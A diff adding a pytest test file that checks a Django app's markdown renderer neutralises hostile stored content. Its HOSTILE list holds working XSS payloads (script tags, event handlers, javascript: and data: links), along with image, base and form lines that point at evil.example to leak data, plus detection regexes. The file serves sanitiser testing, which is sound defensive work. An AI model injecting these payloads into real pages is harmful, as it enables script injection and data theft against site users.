@@ -1,0 +1,77 @@
+"""Stored markdown is untrusted: what a hostile body may become."""
+
+import re
+
+import pytest
+from django.test import Client
+
+from tests.dashboard.memory import Filled
+from workspaces.rendering import MAX_BYTES, render_markdown
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "<base href=https://evil.example>",
+    '<form id="content" action="https://evil.example"><input name="q"></form>',
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:msgbox)",
+    "![x](javascript:alert(1))",
+    "![x](https://evil.example/p?q=secret)",
+    "![x][1]\n\n[1]: https://evil.example/p",
+    '![a"onerror="alert(1)](https://evil.example/"onerror="x)',
+    "<style>body{background:url(https://evil.example)}</style>",
+    "[x](https://ok.example 'title\" onclick=\"alert(1)')",
+]
+LIVE_TAGS = re.compile(
+    r"<(script|img|svg|iframe|base|form|input|style|link|meta|object|embed)\b", re.I
+)
+LIVE_ATTRIBUTES = re.compile(r"<[^>]+\s(on\w+|style|id|name|src|srcset|class)\s*=", re.I)
+LIVE_SCHEMES = re.compile(r"""href\s*=\s*["']?\s*(javascript|data|vbscript):""", re.I)
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_hostile_body_becomes_harmless(text: str) -> None:
+    html = render_markdown(text).html
+    assert not LIVE_TAGS.search(html)
+    assert not LIVE_ATTRIBUTES.search(html)
+    assert not LIVE_SCHEMES.search(html)
+
+
+def test_a_remote_image_becomes_a_link_that_nobody_follows_by_itself() -> None:
+    html = render_markdown("![chart](https://pictures.example/a.png)").html
+    assert (
+        '<a href="https://pictures.example/a.png" rel="noopener noreferrer nofollow">chart</a>'
+        in html
+    )
+
+
+def test_ordinary_markdown_keeps_its_shape_below_the_headings_of_the_page() -> None:
+    html = render_markdown(
+        "# Title\n\n- one\n- **two**\n\n```\ncode\n```\n\n|a|b|\n|-|-|\n|1|2|"
+    ).html
+    for part in ("<h3>Title</h3>", "<strong>two</strong>", "<pre><code>code", "<td>1</td>"):
+        assert part in html
+
+
+def test_a_cited_id_links_to_its_node_and_no_other_does() -> None:
+    mine, other = "01900000-0000-7000-8000-00000000aaaa", "01900000-0000-7000-8000-00000000bbbb"
+    html = render_markdown(f"- said [{mine}] [{other}]", citations={mine: "/w/t/w/nodes/1/"}).html
+    assert 'href="/w/t/w/nodes/1/"' in html
+    assert f"[{other}]" in html
+
+
+def test_a_long_body_is_cut_between_characters() -> None:
+    rendered = render_markdown("网" * MAX_BYTES)
+    assert rendered.is_cut
+    assert "\ufffd" not in rendered.html
+
+
+def test_a_hostile_leaf_is_shown_as_text(owner: Client, filled: Filled) -> None:
+    page = owner.get(filled.address(f"nodes/{filled.hostile_id}/")).content.decode()
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
+    assert "<script" not in page
+    assert '<img src="https://evil' not in page
